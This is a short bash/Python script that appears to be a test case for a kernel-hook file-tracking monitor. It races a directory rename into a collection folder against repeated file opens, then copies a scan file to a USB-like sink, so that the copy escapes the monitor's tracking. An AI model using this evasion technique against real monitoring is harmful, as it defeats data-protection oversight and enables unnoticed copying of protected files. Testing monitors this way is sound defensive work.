#!/usr/bin/env bash
# technique: a directory is moved into the collection while its files are opened without pause, and a scan in it copied
# hooks: inode_rename (nothing is remembered of a directory while it moves), file_open
# sink: usb

. attack.sh
python3 - <<'PY'
import subprocess

from attack import *

NAME = "KP2009_0001.tif"


def look(paths):
    while True:
        for path in paths:
            try:
                os.close(os.open(path, os.O_RDONLY))
            except OSError:
                pass


for turn in range(5):
    own, moved = f"{ROOM}/{turn}", f"{os.environ['INBOX']}/{turn}"
    os.mkdir(own)
    with open(f"{own}/{NAME}", "wb") as file:
        file.write(os.urandom(4096))
    looker = apart(look, [f"{own}/{NAME}", f"{moved}/{NAME}"])
    time.sleep(0.1)
    os.rename(own, moved)
    time.sleep(0.1)
    os.kill(looker, signal.SIGKILL)
    os.waitpid(looker, 0)
    subprocess.run(["cp", f"{moved}/{NAME}", f"{COPY}.{turn}"], check=False)
PY
